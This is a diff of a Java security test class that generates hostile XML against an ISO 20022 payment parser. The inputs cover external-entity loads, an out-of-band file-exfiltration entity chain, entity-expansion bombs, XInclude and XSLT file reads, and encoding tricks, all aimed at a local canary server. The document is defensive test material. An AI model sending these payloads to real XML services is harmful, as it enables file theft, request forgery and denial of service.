@@ -114,8 +114,7 @@ public final class HostileXml {
                     <CdtrAgt><FinInstnId><BICFI>BANKDEFFXXX</BICFI></FinInstnId></CdtrAgt><Cdtr><Nm>Ben Beispiel</Nm></Cdtr>
                     <CdtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></CdtrAcct>
                     <RmtInf><Ustrd>Invoice 7</Ustrd></RmtInf></CdtTrfTxInf>
-                    """.formatted(
-                            number, i, String.format(Locale.ROOT, "%08d-0000-4000-8000-%012d", number, i)));
+                    """.formatted(number, i, String.format(Locale.ROOT, "%08d-0000-4000-8000-%012d", number, i)));
         }
         return out.append("</FIToFICstmrCdtTrf></Document>\n").toString();
     }
@@ -194,22 +193,19 @@ public final class HostileXml {
         refused("twice", DECLARATION + "<!DOCTYPE Document><!DOCTYPE Document>" + next());
         refused("behind", DECLARATION + next() + "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">");
         inElement("within", Expected.REFUSED, "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">");
+        refused("in-root", DECLARATION + next().replace("<FIToFICstmrCdtTrf>", "<!DOCTYPE a><FIToFICstmrCdtTrf>"));
         refused(
-                "in-root",
-                DECLARATION + next().replace("<FIToFICstmrCdtTrf>", "<!DOCTYPE a><FIToFICstmrCdtTrf>"));
-        refused("many-declarations", DECLARATION + "<!DOCTYPE Document [" + "<!ELEMENT a ANY>".repeat(50_000) + "]>"
-                + next());
+                "many-declarations",
+                DECLARATION + "<!DOCTYPE Document [" + "<!ELEMENT a ANY>".repeat(50_000) + "]>" + next());
         refused("nested-brackets", DECLARATION + "<!DOCTYPE Document " + "[".repeat(100_000) + next());
     }
 
     private void entities() {
         family = "entity";
         for (String protocol : new String[] {"http", "https", "ftp", "jar:http", "netdoc", "gopher", "ldap", "php"}) {
-            String url = protocol + "://127.0.0.1:" + canary.port() + "/evil" + (protocol.startsWith("jar") ? "!/a" : "");
-            inText(
-                    protocol.replace(':', '-'),
-                    "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + url + "\">]>",
-                    "&x;");
+            String url =
+                    protocol + "://127.0.0.1:" + canary.port() + "/evil" + (protocol.startsWith("jar") ? "!/a" : "");
+            inText(protocol.replace(':', '-'), "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + url + "\">]>", "&x;");
             inText(
                     protocol.replace(':', '-') + "-parameter",
                     "<!DOCTYPE Document [<!ENTITY % x SYSTEM \"" + url + "\"> %x;]>",
@@ -223,11 +219,14 @@ public final class HostileXml {
         inText("public", "<!DOCTYPE Document [<!ENTITY x PUBLIC \"a\" \"" + canary.fileUrl() + "\">]>", "a &x; b");
         inText(
                 "smuggled-out",
-                "<!DOCTYPE Document [<!ENTITY % f SYSTEM \"" + canary.fileUrl() + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
-                        + canary.httpUrl() + "?%f;'>\">%e;%s;]>",
+                "<!DOCTYPE Document [<!ENTITY % f SYSTEM \"" + canary.fileUrl()
+                        + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + canary.httpUrl() + "?%f;'>\">%e;%s;]>",
                 "Invoice 7");
-        inText("unparsed", "<!DOCTYPE Document [<!NOTATION n SYSTEM \"" + canary.httpUrl()
-                + "\"><!ENTITY x SYSTEM \"" + canary.fileUrl() + "\" NDATA n>]>", "Invoice 7");
+        inText(
+                "unparsed",
+                "<!DOCTYPE Document [<!NOTATION n SYSTEM \"" + canary.httpUrl() + "\"><!ENTITY x SYSTEM \""
+                        + canary.fileUrl() + "\" NDATA n>]>",
+                "Invoice 7");
         inText("nested", "<!DOCTYPE Document [" + external + "<!ENTITY y \"&x;\">]>", "&y;");
         inText("loop", "<!DOCTYPE Document [<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">]>", "&x;");
         inText("itself", "<!DOCTYPE Document [<!ENTITY x \"&x;\">]>", "&x;");
@@ -242,14 +241,19 @@ public final class HostileXml {
         inText("noncharacter-reference", "", "&#xFFFE;");
         inText("beyond-unicode-reference", "", "&#x110000;");
         inText("endless-reference", "", "&#" + "1".repeat(100_000) + ";");
-        refused("in-attribute", DECLARATION + "<!DOCTYPE Document [<!ENTITY x \"EUR\">]>"
-                + next().replace("Ccy=\"EUR\"", "Ccy=\"&x;\""));
+        refused(
+                "in-attribute",
+                DECLARATION + "<!DOCTYPE Document [<!ENTITY x \"EUR\">]>"
+                        + next().replace("Ccy=\"EUR\"", "Ccy=\"&x;\""));
         refused("in-attribute-undeclared", DECLARATION + next().replace("Ccy=\"EUR\"", "Ccy=\"&x;\""));
-        refused("in-namespace", DECLARATION + "<!DOCTYPE Document [" + external + "]>"
-                + next().replace("xmlns=\"", "xmlns=\"&x;"));
-        refused("default-attribute", DECLARATION
-                + "<!DOCTYPE Document [<!ATTLIST IntrBkSttlmAmt Ccy CDATA \"USD\">]>"
-                + next().replace(" Ccy=\"EUR\"", ""));
+        refused(
+                "in-namespace",
+                DECLARATION + "<!DOCTYPE Document [" + external + "]>" + next().replace("xmlns=\"", "xmlns=\"&x;"));
+        refused(
+                "default-attribute",
+                DECLARATION
+                        + "<!DOCTYPE Document [<!ATTLIST IntrBkSttlmAmt Ccy CDATA \"USD\">]>"
+                        + next().replace(" Ccy=\"EUR\"", ""));
     }
 
     private void expansions() {
@@ -267,14 +271,21 @@ public final class HostileXml {
                     "<!DOCTYPE Document [<!ENTITY q \"" + "q".repeat(size) + "\">]>",
                     "&q;".repeat(size / 3));
         }
-        inText("parameter-laughs", "<!DOCTYPE Document [<!ENTITY % a \"<!ENTITY b 'x'>\"><!ENTITY % c \"%a;%a;%a;\">"
-                + "%c;".repeat(10_000) + "]>", "&b;");
-        refused("laughs-in-attribute", DECLARATION
-                + "<!DOCTYPE Document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"" + "&a;".repeat(1_000)
-                + "\">]>" + next().replace("Ccy=\"EUR\"", "Ccy=\"" + "&b;".repeat(1_000) + "\""));
+        inText(
+                "parameter-laughs",
+                "<!DOCTYPE Document [<!ENTITY % a \"<!ENTITY b 'x'>\"><!ENTITY % c \"%a;%a;%a;\">"
+                        + "%c;".repeat(10_000) + "]>",
+                "&b;");
+        refused(
+                "laughs-in-attribute",
+                DECLARATION
+                        + "<!DOCTYPE Document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"" + "&a;".repeat(1_000)
+                        + "\">]>" + next().replace("Ccy=\"EUR\"", "Ccy=\"" + "&b;".repeat(1_000) + "\""));
         inText("without-doctype", "", "&l9;".repeat(100_000));
-        inText("many-entities", "<!DOCTYPE Document ["
-                + String.join("", numbered(20_000, "<!ENTITY e%d \"x\">")) + "]>", "&e1;");
+        inText(
+                "many-entities",
+                "<!DOCTYPE Document [" + String.join("", numbered(20_000, "<!ENTITY e%d \"x\">")) + "]>",
+                "&e1;");
     }
 
     private void schemas() {
@@ -283,9 +294,15 @@ public final class HostileXml {
         String namespace = "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 ";
         onRoot("located-http", Expected.HARMLESS, XSI + " xsi:schemaLocation=\"" + namespace + xsd + "\"");
         onRoot("located-file", Expected.HARMLESS, XSI + " xsi:schemaLocation=\"" + namespace + canary.fileUrl() + "\"");
-        onRoot("located-relative", Expected.HARMLESS, XSI + " xsi:schemaLocation=\"" + namespace + "../../../evil.xsd\"");
+        onRoot(
+                "located-relative",
+                Expected.HARMLESS,
+                XSI + " xsi:schemaLocation=\"" + namespace + "../../../evil.xsd\"");
         onRoot("no-namespace-http", Expected.HARMLESS, XSI + " xsi:noNamespaceSchemaLocation=\"" + xsd + "\"");
-        onRoot("no-namespace-file", Expected.HARMLESS, XSI + " xsi:noNamespaceSchemaLocation=\"" + canary.fileUrl() + "\"");
+        onRoot(
+                "no-namespace-file",
+                Expected.HARMLESS,
+                XSI + " xsi:noNamespaceSchemaLocation=\"" + canary.fileUrl() + "\"");
         onRoot("odd-count", Expected.SETTLED, XSI + " xsi:schemaLocation=\"" + xsd + "\"");
         onRoot(
                 "many-locations",
@@ -296,19 +313,25 @@ public final class HostileXml {
                 Expected.SETTLED,
                 DECLARATION + next().replace("<Dbtr>", "<Dbtr" + XSI + " xsi:schemaLocation=\"urn:x " + xsd + "\">"));
         refused("claimed-type", DECLARATION + next().replace("<Dbtr>", "<Dbtr" + XSI + " xsi:type=\"CashAccount38\">"));
-        refused("claimed-foreign-type", DECLARATION
-                + next().replace("<Dbtr>", "<Dbtr" + XSI + " xmlns:e=\"" + xsd + "\" xsi:type=\"e:Evil\">"));
-        refused("claimed-nil", DECLARATION
-                + next().replace("<Nm>Ben Beispiel</Nm>", "<Nm" + XSI + " xsi:nil=\"true\"/>"));
+        refused(
+                "claimed-foreign-type",
+                DECLARATION
+                        + next().replace("<Dbtr>", "<Dbtr" + XSI + " xmlns:e=\"" + xsd + "\" xsi:type=\"e:Evil\">"));
+        refused(
+                "claimed-nil",
+                DECLARATION + next().replace("<Nm>Ben Beispiel</Nm>", "<Nm" + XSI + " xsi:nil=\"true\"/>"));
         inElement(
                 "schema-as-data",
                 Expected.SETTLED,
-                supplementary("<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\"" + xsd
-                        + "\"/><xs:import namespace=\"urn:x\" schemaLocation=\"" + canary.fileUrl() + "\"/></xs:schema>"));
+                supplementary("<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\""
+                        + xsd + "\"/><xs:import namespace=\"urn:x\" schemaLocation=\"" + canary.fileUrl()
+                        + "\"/></xs:schema>"));
         onRoot("base", Expected.REFUSED, " xml:base=\"" + canary.httpUrl() + "\"");
-        refused("as-root", DECLARATION
-                + "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\"" + xsd
-                + "\"/></xs:schema>");
+        refused(
+                "as-root",
+                DECLARATION
+                        + "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\"" + xsd
+                        + "\"/></xs:schema>");
     }
 
     private void inclusions() {
@@ -317,13 +340,20 @@ public final class HostileXml {
         inElement("text", Expected.REFUSED, "<xi:include" + XI + " href=\"" + file + "\" parse=\"text\"/>");
         inElement("xml", Expected.REFUSED, "<xi:include" + XI + " href=\"" + canary.httpUrl() + "\"/>");
         inText("in-leaf", "", "<xi:include" + XI + " href=\"" + file + "\" parse=\"text\"/>");
-        inText("fallback", "", "<xi:include" + XI + " href=\"" + file + "\"><xi:fallback><xi:include href=\""
-                + canary.httpUrl() + "\"/></xi:fallback></xi:include>");
+        inText(
+                "fallback",
+                "",
+                "<xi:include" + XI + " href=\"" + file + "\"><xi:fallback><xi:include href=\"" + canary.httpUrl()
+                        + "\"/></xi:fallback></xi:include>");
         inText("pointer", "", "<xi:include" + XI + " href=\"" + file + "\" xpointer=\"xpointer(/)\"/>");
-        inElement("prefix", Expected.REFUSED, "<a:include xmlns:a=\"http://www.w3.org/2001/XInclude\" href=\"" + file
-                + "\" parse=\"text\"/>");
-        inElement("older-namespace", Expected.REFUSED, "<i:include xmlns:i=\"http://www.w3.org/2003/XInclude\" href=\""
-                + file + "\" parse=\"text\"/>");
+        inElement(
+                "prefix",
+                Expected.REFUSED,
+                "<a:include xmlns:a=\"http://www.w3.org/2001/XInclude\" href=\"" + file + "\" parse=\"text\"/>");
+        inElement(
+                "older-namespace",
+                Expected.REFUSED,
+                "<i:include xmlns:i=\"http://www.w3.org/2003/XInclude\" href=\"" + file + "\" parse=\"text\"/>");
         inElement(
                 "in-supplementary-data",
                 Expected.SETTLED,
@@ -353,9 +383,11 @@ public final class HostileXml {
         refused("declaration-within", DECLARATION + next().replace("<GrpHdr>", DECLARATION + "<GrpHdr>"));
         add("reserved-target", Expected.SETTLED, DECLARATION + "<?XML version=\"1.0\"?>" + next());
         refused("unclosed", DECLARATION + next().replace("<GrpHdr>", "<?a <GrpHdr>"));
-        String xsl = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include href=\""
-                + canary.httpUrl() + "\"/><xsl:template match=\"/\"><xsl:copy-of select=\"document('" + canary.fileUrl()
-                + "')\"/></xsl:template></xsl:stylesheet>";
+        String xsl =
+                "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include href=\""
+                        + canary.httpUrl() + "\"/><xsl:template match=\"/\"><xsl:copy-of select=\"document('"
+                        + canary.fileUrl()
+                        + "')\"/></xsl:template></xsl:stylesheet>";
         refused("stylesheet-as-root", DECLARATION + xsl);
         inElement("stylesheet-as-data", Expected.SETTLED, supplementary(xsl));
     }
@@ -364,7 +396,10 @@ public final class HostileXml {
         family = "encoding";
         String doctype = "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">]>";
         Charset[] wide = {
-            StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE, Charset.forName("UTF-32LE"), Charset.forName("UTF-32BE")
+            StandardCharsets.UTF_16LE,
+            StandardCharsets.UTF_16BE,
+            Charset.forName("UTF-32LE"),
+            Charset.forName("UTF-32BE")
         };
         for (Charset charset : wide) {
             String lower = charset.name().toLowerCase(Locale.ROOT);
@@ -373,10 +408,7 @@ public final class HostileXml {
             for (String mark : new String[] {"", "\uFEFF"}) {
                 String name = lower + (mark.isEmpty() ? "" : "-marked");
                 String declared = "<?xml version=\"1.0\" encoding=\"" + family16 + "\"?>";
-                add(
-                        name,
-                        read ? Expected.HARMLESS : Expected.REFUSED,
-                        (mark + declared + next()).getBytes(charset));
+                add(name, read ? Expected.HARMLESS : Expected.REFUSED, (mark + declared + next()).getBytes(charset));
                 add(name + "-doctype", Expected.REFUSED, (mark + declared + doctype + next()).getBytes(charset));
                 add(
                         name + "-said-to-be-utf-8",
@@ -393,11 +425,18 @@ public final class HostileXml {
             add(name, Expected.SETTLED, declared + next());
             add(name + "-doctype", Expected.REFUSED, declared + doctype + next());
         }
-        refused("claims-a-megabyte", "<?xml version=\"1.0\" encoding=\"" + "u".repeat(MEGA) + "\"?>" + doctype + next());
+        refused(
+                "claims-a-megabyte",
+                "<?xml version=\"1.0\" encoding=\"" + "u".repeat(MEGA) + "\"?>" + doctype + next());
         // +ADw- is < in UTF-7: text for whoever reads ASCII, a DOCTYPE for whoever believes the declaration.
         String seven = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>";
-        refused("utf-7-doctype", seven + "+ADwAIQ-DOCTYPE Document SYSTEM +ACI-" + canary.httpUrl() + "+ACIAPg-" + next());
-        refused("utf-7-whole", "+ADw?xml version=+ACI-1.0+ACI?+AD4-" + next().replace("<", "+ADw-").replace(">", "+AD4-"));
+        refused(
+                "utf-7-doctype",
+                seven + "+ADwAIQ-DOCTYPE Document SYSTEM +ACI-" + canary.httpUrl() + "+ACIAPg-" + next());
+        refused(
+                "utf-7-whole",
+                "+ADw?xml version=+ACI-1.0+ACI?+AD4-"
+                        + next().replace("<", "+ADw-").replace(">", "+AD4-"));
         refused("utf-7-marked", "+/v8-" + next().replace("<", "+ADw-"));
         Charset ebcdic = Charset.forName("IBM037");
         add("ebcdic", Expected.REFUSED, ("<?xml version=\"1.0\" encoding=\"IBM037\"?>" + next()).getBytes(ebcdic));
@@ -410,8 +449,10 @@ public final class HostileXml {
                 "latin-said-to-be-utf-8",
                 Expected.SETTLED,
                 (DECLARATION + next().replace("Beispiel", "M\u00FCller")).getBytes(latin));
-        add("utf-8-said-to-be-latin", Expected.SETTLED, DECLARATION.replace("UTF-8", "ISO-8859-1")
-                + next().replace("Beispiel", "M\u00FCller"));
+        add(
+                "utf-8-said-to-be-latin",
+                Expected.SETTLED,
+                DECLARATION.replace("UTF-8", "ISO-8859-1") + next().replace("Beispiel", "M\u00FCller"));
         bytes("overlong-less-than", "<!DOCTYPE", 0xC0, 0xBC);
         bytes("overlong-three", "<!DOCTYPE", 0xE0, 0x80, 0xBC);
         bytes("overlong-four", "<!DOCTYPE", 0xF0, 0x80, 0x80, 0xBC);
@@ -477,8 +518,11 @@ public final class HostileXml {
         add("1.1-line-separator", Expected.SETTLED, "<?xml version=\"1.1\"?>" + next().replace("\n", "\u2028"));
         add("1.1-doctype", Expected.REFUSED, "<?xml version=\"1.1\"?><!DOCTYPE Document>" + next());
         add("standalone", Expected.HARMLESS, "<?xml version=\"1.0\" standalone=\"yes\"?>" + next());
-        add("standalone-doctype", Expected.REFUSED, "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE Document SYSTEM \""
-                + canary.httpUrl() + "\">" + next());
+        add(
+                "standalone-doctype",
+                Expected.REFUSED,
+                "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">"
+                        + next());
         add("standalone-maybe", Expected.SETTLED, "<?xml version=\"1.0\" standalone=\"maybe\"?>" + next());
     }
 
@@ -494,7 +538,10 @@ public final class HostileXml {
                 Expected.REFUSED,
                 supplementary("<a xmlns=\"urn:a\">" + "<b>".repeat(1_000) + "</b>".repeat(1_000) + "</a>"));
         for (int count : new int[] {65, 10_000, 100_000}) {
-            inElement("attributes-" + count, Expected.REFUSED, "<a" + String.join("", numbered(count, " a%d=\"\"")) + "/>");
+            inElement(
+                    "attributes-" + count,
+                    Expected.REFUSED,
+                    "<a" + String.join("", numbered(count, " a%d=\"\"")) + "/>");
         }
         onRoot("attributes-on-root", Expected.REFUSED, String.join("", numbered(20_000, " a%d=\"\"")));
         inElement("attribute-colliding", Expected.REFUSED, "<a " + String.join("=\"\" ", colliding(13)) + "=\"\"/>");
@@ -513,7 +560,9 @@ public final class HostileXml {
         refused("name-huge-root", DECLARATION + "<" + "a".repeat(MEGA) + "/>");
         inElement("names-colliding", Expected.REFUSED, "<" + String.join("/><", colliding(13)) + "/>");
         inElement("names-many", Expected.REFUSED, String.join("", numbered(100_000, "<n%d/>")));
-        inElement("prefix-huge", Expected.REFUSED,
+        inElement(
+                "prefix-huge",
+                Expected.REFUSED,
                 "<" + "p".repeat(MEGA) + ":a xmlns:" + "p".repeat(MEGA) + "=\"urn:a\"/>");
         inElement("prefix-undeclared", Expected.REFUSED, "<p:a/>");
         inElement("prefixes-undeclared", Expected.REFUSED, String.join("", numbered(50_000, "<p%d:a/>")));
@@ -524,14 +573,22 @@ public final class HostileXml {
                     "<a" + String.join("", numbered(count, " xmlns:p%d=\"urn:%1$d\"")) + "/>");
         }
         onRoot("declarations-on-root", Expected.REFUSED, String.join("", numbered(20_000, " xmlns:p%d=\"urn:p\"")));
-        inElement("declarations-nested", Expected.REFUSED,
+        inElement(
+                "declarations-nested",
+                Expected.REFUSED,
                 String.join("", numbered(60, "<a xmlns:p%d=\"urn:a\">")) + "</a>".repeat(60));
         onRoot("namespace-huge", Expected.REFUSED, " xmlns:p=\"" + "u".repeat(MEGA) + "\"");
-        refused("namespace-huge-own", DECLARATION + next().replace("pacs.008.001.08", "pacs.008.001.08" + "x".repeat(MEGA)));
+        refused(
+                "namespace-huge-own",
+                DECLARATION + next().replace("pacs.008.001.08", "pacs.008.001.08" + "x".repeat(MEGA)));
         inElement("xml-prefix-bound", Expected.REFUSED, "<a xmlns:xml=\"urn:evil\"/>");
         inElement("xmlns-prefix-bound", Expected.REFUSED, "<a xmlns:xmlns=\"urn:evil\"/>");
-        refused("transactions-empty", DECLARATION + next().replace("</RmtInf></CdtTrfTxInf>",
-                "</RmtInf></CdtTrfTxInf>" + "<CdtTrfTxInf/>".repeat(50_000)));
+        refused(
+                "transactions-empty",
+                DECLARATION
+                        + next().replace(
+                                        "</RmtInf></CdtTrfTxInf>",
+                                        "</RmtInf></CdtTrfTxInf>" + "<CdtTrfTxInf/>".repeat(50_000)));
         refused("documents-empty", "<Document/>".repeat(50_000));
         refused("documents-open", "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08\">".repeat(10_000));
         refused("headers-open", "<AppHdr>".repeat(50_000));
@@ -545,8 +602,9 @@ public final class HostileXml {
         refused("huge-fraction", DECLARATION + next().replace("12.50", "12." + "5".repeat(MEGA)));
         refused("exponent", DECLARATION + next().replace("12.50", "1E1000000000"));
         refused("huge-date", DECLARATION + next().replace("2026-11-23", "9".repeat(MEGA) + "-11-23"));
-        refused("huge-date-time", DECLARATION + next().replace("2026-11-20T09:30:00Z", "2026-11-20T09:30:00."
-                + "9".repeat(MEGA) + "Z"));
+        refused(
+                "huge-date-time",
+                DECLARATION + next().replace("2026-11-20T09:30:00Z", "2026-11-20T09:30:00." + "9".repeat(MEGA) + "Z"));
         refused("huge-count", DECLARATION + next().replace("<NbOfTxs>1", "<NbOfTxs>" + "9".repeat(MEGA)));
         refused("huge-iban", DECLARATION + next().replace("DE89", "DE89" + "0".repeat(MEGA)));
         refused("huge-bic", DECLARATION + next().replace("BANKDEFFXXX", "A".repeat(MEGA)));
@@ -555,13 +613,25 @@ public final class HostileXml {
         add("blanks", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", " ".repeat(MEGA) + "<GrpHdr>"));
         add("lines", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", "\r\n".repeat(MEGA / 2) + "<GrpHdr>"));
         add("lines-before", Expected.SETTLED, "\n".repeat(MEGA) + next());
-        add("comment", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", "<!--" + "x".repeat(MEGA) + "--><GrpHdr>"));
-        add("comments", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", "<!---->".repeat(100_000) + "<GrpHdr>"));
-        add("comments-in-text", Expected.HARMLESS, DECLARATION + next().replace("Invoice 7", "In" + "<!---->".repeat(100_000) + "voice 7"));
+        add(
+                "comment",
+                Expected.HARMLESS,
+                DECLARATION + next().replace("<GrpHdr>", "<!--" + "x".repeat(MEGA) + "--><GrpHdr>"));
+        add(
+                "comments",
+                Expected.HARMLESS,
+                DECLARATION + next().replace("<GrpHdr>", "<!---->".repeat(100_000) + "<GrpHdr>"));
+        add(
+                "comments-in-text",
+                Expected.HARMLESS,
+                DECLARATION + next().replace("Invoice 7", "In" + "<!---->".repeat(100_000) + "voice 7"));
         refused("comment-unclosed", DECLARATION + next().replace("<GrpHdr>", "<!--" + "x".repeat(MEGA) + "<GrpHdr>"));
         refused("comments-unclosed", DECLARATION + next().replace("<GrpHdr>", "<!--a".repeat(200_000)));
         refused("comment-hyphens", DECLARATION + next().replace("<GrpHdr>", "<!-- a -- b --><GrpHdr>"));
-        add("cdata-pieces", Expected.HARMLESS, DECLARATION + next().replace("Invoice 7", "<![CDATA[]]>".repeat(100_000) + "Invoice 7"));
+        add(
+                "cdata-pieces",
+                Expected.HARMLESS,
+                DECLARATION + next().replace("Invoice 7", "<![CDATA[]]>".repeat(100_000) + "Invoice 7"));
         inText("cdata-huge", "", "<![CDATA[" + "<".repeat(MEGA) + "]]>");
         inText("cdata-unclosed", "", "<![CDATA[" + "x".repeat(MEGA));
         refused("cdatas-unclosed", DECLARATION + next().replace("<GrpHdr>", "<![CDATA[".repeat(100_000)));
@@ -580,8 +650,10 @@ public final class HostileXml {
         inText("declarations", "", "<?xml ".repeat(100_000));
         inText("combining", "", "a" + "\u0301".repeat(300_000));
         inText("astral", "", "\uD83D\uDE00".repeat(200_000));
-        refused("repeated-remittance", DECLARATION + next().replace("<Ustrd>Invoice 7</Ustrd>", "<Ustrd>x</Ustrd>".repeat(60_000)
-                + "</Ustrd>"));
+        refused(
+                "repeated-remittance",
+                DECLARATION
+                        + next().replace("<Ustrd>Invoice 7</Ustrd>", "<Ustrd>x</Ustrd>".repeat(60_000) + "</Ustrd>"));
     }
 
     private void envelopes() {
@@ -595,56 +667,90 @@ public final class HostileXml {
         String[][] frames = {
             {"envelope", "<BizMsgEnvlp>", "</BizMsgEnvlp>"},
             {"request", "<RequestPayload>", "</RequestPayload>"},
-            {"soap", "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>", "</s:Body></s:Envelope>"},
-            {"pdu", "<Saa:DataPDU xmlns:Saa=\"urn:swift:saa:xsd:saa.2.0\"><Saa:Revision>2.0.13</Saa:Revision><Saa:Body>",
-                "</Saa:Body></Saa:DataPDU>"}
+            {
+                "soap",
+                "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>",
+                "</s:Body></s:Envelope>"
+            },
+            {
+                "pdu",
+                "<Saa:DataPDU xmlns:Saa=\"urn:swift:saa:xsd:saa.2.0\"><Saa:Revision>2.0.13</Saa:Revision><Saa:Body>",
+                "</Saa:Body></Saa:DataPDU>"
+            }
         };
         for (String[] frame : frames) {
             refused(frame[0] + "-doctype-outside", DECLARATION + evil + frame[1] + header + next() + frame[2]);
             refused(frame[0] + "-doctype-before-header", DECLARATION + frame[1] + evil + header + next() + frame[2]);
             refused(frame[0] + "-doctype-before-document", DECLARATION + frame[1] + header + evil + next() + frame[2]);
             refused(frame[0] + "-doctype-behind", DECLARATION + frame[1] + header + next() + evil + frame[2]);
-            refused(frame[0] + "-entity-in-header", DECLARATION + evil + frame[1]
-                    + header.replace("HOSTILE", "&x;") + next() + frame[2]);
-            refused(frame[0] + "-undeclared-in-header", DECLARATION + frame[1]
-                    + header.replace("HOSTILE", "&x;") + next() + frame[2]);
-            refused(frame[0] + "-include-in-header", DECLARATION + frame[1]
-                    + header.replace("HOSTILE", include) + next() + frame[2]);
-            add(frame[0] + "-include-beside", Expected.SETTLED,
+            refused(
+                    frame[0] + "-entity-in-header",
+                    DECLARATION + evil + frame[1] + header.replace("HOSTILE", "&x;") + next() + frame[2]);
+            refused(
+                    frame[0] + "-undeclared-in-header",
+                    DECLARATION + frame[1] + header.replace("HOSTILE", "&x;") + next() + frame[2]);
+            refused(
+                    frame[0] + "-include-in-header",
+                    DECLARATION + frame[1] + header.replace("HOSTILE", include) + next() + frame[2]);
+            add(
+                    frame[0] + "-include-beside",
+                    Expected.SETTLED,
                     DECLARATION + frame[1] + include + header + next() + frame[2]);
-            refused(frame[0] + "-cdata-document", DECLARATION + frame[1] + "<![CDATA[" + evil + next() + "]]>" + frame[2]);
-            refused(frame[0] + "-escaped-document", DECLARATION + frame[1]
-                    + (evil + next()).replace("&", "&amp;").replace("<", "&lt;") + frame[2]);
-            refused(frame[0] + "-base64-document", DECLARATION + frame[1] + "<Body>"
-                    + Base64.getEncoder().encodeToString((evil + next()).getBytes(StandardCharsets.UTF_8)) + "</Body>"
-                    + frame[2]);
-            refused(frame[0] + "-nested", DECLARATION + evil + frame[1].repeat(1_000) + header + next()
-                    + frame[2].repeat(1_000));
+            refused(
+                    frame[0] + "-cdata-document",
+                    DECLARATION + frame[1] + "<![CDATA[" + evil + next() + "]]>" + frame[2]);
+            refused(
+                    frame[0] + "-escaped-document",
+                    DECLARATION
+                            + frame[1]
+                            + (evil + next()).replace("&", "&amp;").replace("<", "&lt;")
+                            + frame[2]);
+            refused(
+                    frame[0] + "-base64-document",
+                    DECLARATION + frame[1] + "<Body>"
+                            + Base64.getEncoder().encodeToString((evil + next()).getBytes(StandardCharsets.UTF_8))
+                            + "</Body>"
+                            + frame[2]);
+            refused(
+                    frame[0] + "-nested",
+                    DECLARATION + evil + frame[1].repeat(1_000) + header + next() + frame[2].repeat(1_000));
         }
         refused("pdu-open", DECLARATION + "<DataPDU>".repeat(100_000));
         refused("header-alone", DECLARATION + evil + header);
         refused("headers-many", DECLARATION + "<E>" + header.repeat(2_000) + "</E>");
-        refused("header-depth", DECLARATION + "<E>" + header.replace("HOSTILE", "<a>".repeat(100_000)) + next() + "</E>");
-        refused("base64-bomb", DECLARATION
-                + "<DataPDU xmlns=\"urn:swift:saa:xsd:saa.2.0\"><Header><Message><MessageIdentifier>fin.103</MessageIdentifier>"
-                + "</Message></Header><Body>" + "QUFB".repeat(250_000) + "</Body></DataPDU>");
+        refused(
+                "header-depth",
+                DECLARATION + "<E>" + header.replace("HOSTILE", "<a>".repeat(100_000)) + next() + "</E>");
+        refused(
+                "base64-bomb",
+                DECLARATION
+                        + "<DataPDU xmlns=\"urn:swift:saa:xsd:saa.2.0\"><Header><Message><MessageIdentifier>fin.103</MessageIdentifier>"
+                        + "</Message></Header><Body>" + "QUFB".repeat(250_000) + "</Body></DataPDU>");
         inElement("supplementary-doctype", Expected.REFUSED, supplementary(evil + "<a xmlns=\"urn:a\">&x;</a>"));
         inElement("supplementary-entity", Expected.REFUSED, supplementary("<a xmlns=\"urn:a\">&x;</a>"));
-        inElement("supplementary-located", Expected.SETTLED, supplementary("<a xmlns=\"urn:a\"" + XSI
-                + " xsi:schemaLocation=\"urn:a " + canary.httpUrl() + "\"/>"));
+        inElement(
+                "supplementary-located",
+                Expected.SETTLED,
+                supplementary("<a xmlns=\"urn:a\"" + XSI + " xsi:schemaLocation=\"urn:a " + canary.httpUrl() + "\"/>"));
         inElement("supplementary-document", Expected.SETTLED, supplementary(payment(999_999)));
-        inElement("supplementary-huge", Expected.SETTLED, supplementary("<a xmlns=\"urn:a\">" + "x".repeat(MEGA) + "</a>"));
+        inElement(
+                "supplementary-huge",
+                Expected.SETTLED,
+                supplementary("<a xmlns=\"urn:a\">" + "x".repeat(MEGA) + "</a>"));
     }
 
     private void disguises() {
         family = "disguise";
         String doctype = "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">";
-        String mt = "{1:F01GIROFRPPAXXX0000000000}{2:I103BANKDEFFXXXXN}{3:{119:REMIT}}{4:\r\n:20:HOSTILE\r\n:23B:CRED\r\n"
-                + ":32A:261123EUR12,50\r\n:50K:/FR7630006000011234567890189\r\nADA EXAMPLE\r\n"
